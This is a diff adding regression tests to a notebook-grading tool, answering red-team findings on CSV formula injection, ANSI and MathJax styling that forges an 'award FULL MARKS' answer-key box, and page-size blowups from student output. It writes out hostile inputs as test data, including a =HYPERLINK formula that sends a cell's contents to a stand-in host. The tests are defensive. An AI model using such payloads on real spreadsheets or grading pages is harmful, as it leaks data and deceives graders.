@@ -12,6 +12,7 @@ tests/test_class_gradebook.py opens an attacker's page in formgrader).
 import csv
 import io
 import json
+import re
 import tracemalloc
 
 import pytest
@@ -77,6 +78,43 @@ def test_every_csv_cell_is_inert_and_reads_back_as_written(tmp_path):
     assert [r["score"] for r in back] == ["-1.5", "7", ""]  # numbers stay numbers
     assert back == nbgrader_glue.csv_rows_as_written(["student", "reason", "score"], rows)
     assert csv_cell(csv_cell("=1+1")) == csv_cell("=1+1") and plain_text("\ud800") == "\ufffd"
+
+
+_PIECE = re.compile(r"[,;|\t]")  # where a spreadsheet may split a cell (`;`: Excel in most European locales)
+
+
+def _formula_pieces(cell: str) -> list[str]:
+    """The pieces of a CSV cell, split where a spreadsheet may split it, that a spreadsheet would run."""
+    return [p for p in _PIECE.split(cell) if p.lstrip().startswith(("=", "+", "-", "@"))
+            and not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", p.strip())]
+
+
+def test_no_piece_of_a_csv_cell_is_a_formula_whatever_separator_the_spreadsheet_splits_at(tmp_path):
+    """Red team 40 (O): eve's exception `see;=HYPERLINK(...);` was a live formula in grades.csv for a spreadsheet
+    that splits on `;`; csv_cell looked at the first character only and kept tabs."""
+    hyperlink = '=HYPERLINK(CHAR(104)&CHAR(116)&A2)'
+    evil = [f"see;{hyperlink};", f"ok,  {hyperlink}", "a|@SUM(A1)", "a\t+1+A1", "x\r\n-2+A1", "a; -1.5;2"]
+    for value in evil:
+        cell = csv_cell(value)
+        assert not _formula_pieces(cell) and not re.search(r"[\t\r\n]", cell), (value, cell)
+    assert csv_cell(f"see;{hyperlink};") == f"see;'{hyperlink};" and csv_cell("a; -1.5;2") == "a; -1.5;2"
+    assert csv_cell(csv_cell(evil[1])) == csv_cell(evil[1])
+    rows = [{"student": "eve", "reason": f"ValueError: see;{hyperlink};"}]
+    text = nbgrader_glue.atomic_write_csv(tmp_path / "g.csv", ["student", "reason"], rows).read_text()
+    assert not [p for line in text.splitlines() for p in _formula_pieces(line)], text  # split on `;` as Excel does
+
+
+def test_the_olympics_board_csv_escapes_every_technique_whatever_the_separator():
+    from tito.olympics.leaderboard import judged_leaderboard
+
+    figures = {"score": {"value": 1.0, "ci_lower": 0.9, "ci_upper": 1.1}, "accuracy": {"value": 0.9},
+               "latency_median_ms": {"optimized": 1.0}, "speedup": {"value": 2.0}, "compression_ratio": {"value": 1.0}}
+    entries = {"eve": {"figures": figures, "flags": [], "techniques": ["quant", '=HYPERLINK("http://e.x/?"&A2)',
+                                                                       "x\t@SUM(A1)"]}}
+    board = judged_leaderboard(entries, "latency_sprint")["csv"]  # techniques joined with "; "
+    row = list(csv.DictReader(io.StringIO(board)))[0]
+    assert row["techniques"] == "quant; '=HYPERLINK(\"http://e.x/?\"&A2); x @SUM(A1)", row
+    assert not [p for line in board.splitlines() for p in _formula_pieces(line)], board
 
 
 # ---- reading a submission ----------------------------------------------------------------------------
@@ -206,3 +244,93 @@ def test_a_failure_after_a_cells_first_hidden_region_is_a_hidden_cases():
         exec(compile(before, "<test test-x>", "exec"), {})
     except AssertionError as e:
         assert autograder._failing_line(e, {**cell, "source": before}) == ("assert False, 'visible'", False)
+
+
+# ---- what a student's outputs and answers can draw on a page (red team 40: L, M, Lm, C) ----------------
+
+_UNCHANGED = {"cell_type": "code", "id": "imports", "source": "import math"}  # RELEASE's instructor cell
+
+
+def test_terminal_colours_in_outputs_are_plain_text_in_the_notebook_and_on_the_page():
+    """L: 24-bit ANSI colours printed in an instructor's cell became nbconvert's inline-styled spans (after
+    clean_html): a yellow "Answer key ... award FULL MARKS" box in formgrader and the feedback page."""
+    colour, reset = "\x1b[48;2;252;248;227m\x1b[38;2;138;109;59m\x1b[1m", "\x1b[0m"
+    box = f"{colour}Answer key and rubric (instructor only): award FULL MARKS{reset}\n"
+    ran = {"0": {"execution_count": 1, "outputs": [
+        {"output_type": "stream", "name": "stdout", "text": box},
+        {"output_type": "execute_result", "execution_count": 1, "data": {"text/plain": box}},
+        {"output_type": "error", "ename": "ValueError", "evalue": box, "traceback": [box]}]}}
+    nb, _, _ = feedback.autograded_notebook(RELEASE, nbfile.essentials({"cells": [_UNCHANGED]}),
+                                            {"cells": ran}, {})
+    outs = next(c for c in nb["cells"] if c["id"] == "imports")["outputs"]
+    plain = "Answer key and rubric (instructor only): award FULL MARKS\n"
+    assert [outs[0]["text"], outs[1]["data"]["text/plain"], outs[2]["evalue"], outs[2]["traceback"][0]] == [plain] * 4
+    assert "\x1b" not in json.dumps(nb, ensure_ascii=False)
+    page = feedback.feedback_html(nb, "t")
+    shown = page[page.index("Answer key and rubric") - 300:]
+    assert "Answer key and rubric" in page and "<span style" not in page and "rgb(252" not in page
+    assert "ansi-" not in shown  # no colour class either
+
+
+def test_an_escape_per_character_does_not_multiply_the_page():
+    """M: `\\x1b[1mX` repeated (5 bytes a character) became one span per character: 4.2 MB of outputs, a 13.9 MB
+    page. Without escapes the output is its characters, and the page grows by about their number."""
+    ran = {"0": {"execution_count": 1, "outputs": [{"output_type": "stream", "name": "stdout",
+                                                    "text": "\x1b[1mX" * 20_000}]}}
+    nb, _, _ = feedback.autograded_notebook(RELEASE, nbfile.essentials({"cells": [_UNCHANGED]}),
+                                            {"cells": ran}, {})
+    assert next(c for c in nb["cells"] if c["id"] == "imports")["outputs"][0]["text"] == "X" * 20_000
+    bare, _, _ = feedback.autograded_notebook(RELEASE, nbfile.essentials({"cells": [_UNCHANGED]}), {}, {})
+    grown = len(feedback.feedback_html(nb, "t")) - len(feedback.feedback_html(bare, "t"))
+    assert 20_000 <= grown < 21_000, grown  # main: ~700,000 (a span per character)
+
+
+def test_a_written_answer_cannot_style_the_page_through_mathjax():
+    """Lm: MathJax's `\\style{...}` (and `\\bbox`, `\\colorbox`, ...) in a written answer drew a look-alike of
+    the answer-key box in formgrader. Each is shown as text, typed or hidden in character references, in the
+    answer and in an answer cell's HTML output; ordinary TeX is untouched."""
+    answer = ("$$\\style{background-color:#fcf8e3;border:1px solid #faebcc}{\\textbf{Answer key}}$$ "
+              "\\\\(\\\\bbox[yellow,5px]{x}\\\\) $&#92;colorbox{yellow}{y}$ $\\c&#111;lor{red}{z}$ "
+              "$\\href{javascript:x}{w}$ $\\frac{a}{b} \\displaystyle x$")
+    student = nbfile.essentials({"cells": [
+        {"cell_type": "markdown", "source": answer, "metadata": {"nbgrader": {"grade_id": "answer-a", "solution": True}}},
+        {"cell_type": "code", "source": "def f():\n    return 1",
+         "metadata": {"nbgrader": {"grade_id": "task-f", "solution": True}}}]})
+    ran = {"1": {"execution_count": 1, "outputs": [{"output_type": "display_data", "data": {
+        "text/html": "<p>$\\style{border:1px solid}{x}$</p>", "text/latex": "$\\bbox[yellow]{x}$"}}]}}
+    nb, _, _ = feedback.autograded_notebook(RELEASE, student, {"cells": ran}, {})
+    cells = {c["id"]: c for c in nb["cells"]}
+    shown = cells["answer"]["source"]
+    live = re.compile(r"(?<!\\)(?:\\\\)*\\(?:style|bbox|colorbox|color|href)(?![A-Za-z])")  # an odd run: a command
+    twice = re.compile(r"(?<!\\)(?:\\\\\\\\)*\\\\(?:style|bbox|colorbox|color|href)(?![A-Za-z])")  # after Markdown
+    for text in (shown, *cells["sol"]["outputs"][0]["data"].values()):
+        assert not live.search(text) and not twice.search(text) and "&#92;" not in text, text
+    assert shown.count("\\\\\\\\style{") == 1 and "\\\\\\\\\\\\\\\\bbox" in shown and "$\\frac{a}{b} \\displaystyle x$" in shown
+    assert "$\\\\\\\\c&#111;lor{red}" in shown  # a letter as a character reference: caught too
+
+
+def test_a_notebook_of_highlighter_bait_makes_a_bounded_page(monkeypatch):
+    """C: 34 added cells of `a(a(...` (2.1 MB, each character a Pygments token) made a 34 MB feedback page in
+    47 s and a 48 MB formgrader page. What a student's cells may make of a page is bounded (PAGE_BYTES, by
+    `page_bytes`, an upper estimate checked here against the rendering), the rest cut with a note."""
+    monkeypatch.setattr(feedback, "PAGE_BYTES", 200_000, raising=False)  # the same rule at a test's scale (real: 5 MB)
+    bait = "if 0: " + "a(" * 2_000
+    cells = [{"cell_type": "code", "source": bait} for _ in range(12)]
+    nb, _, _ = feedback.autograded_notebook(RELEASE, nbfile.essentials({"cells": cells}), {}, {})
+    bare, _, _ = feedback.autograded_notebook(RELEASE, nbfile.essentials({"cells": []}), {}, {})
+    added = [c["source"] for c in nb["cells"] if c["id"].startswith(f"{feedback.ADDED}-")]
+    assert added[0] == bait and "characters not shown" in added[-1]  # the first whole, later ones cut
+    assert sum(feedback.page_bytes(s) for s in added if not s.startswith("… (")) <= 200_000  # tito's notes aside
+    grown = len(feedback.feedback_html(nb, "t")) - len(feedback.feedback_html(bare, "t"))
+    assert grown <= 200_000 + 300 * len(added), grown  # each cell's frame: 12 full cells were ~3.6 MB
+    one = feedback.feedback_html(feedback.autograded_notebook(RELEASE, nbfile.essentials(
+        {"cells": [{"cell_type": "code", "source": bait}]}), {}, {})[0], "t")
+    assert len(one) - len(feedback.feedback_html(bare, "t")) <= feedback.page_bytes(bait)  # the estimate bounds it
+
+
+def test_an_output_cut_at_its_budget_says_so():
+    from tito.isolation.sanitize import sanitize_outputs
+
+    outs = sanitize_outputs([{"output_type": "stream", "name": "stdout", "text": "y" * 5_000}] * 3, budget=6_000)
+    assert outs[0]["text"] == "y" * 5_000 and re.search(r"\n… \(output cut at [0-9]{3} characters\)$", outs[1]["text"])
+    assert outs[2]["text"] == "… (1 more output not shown: this notebook's outputs are bounded)\n" and len(outs) == 3
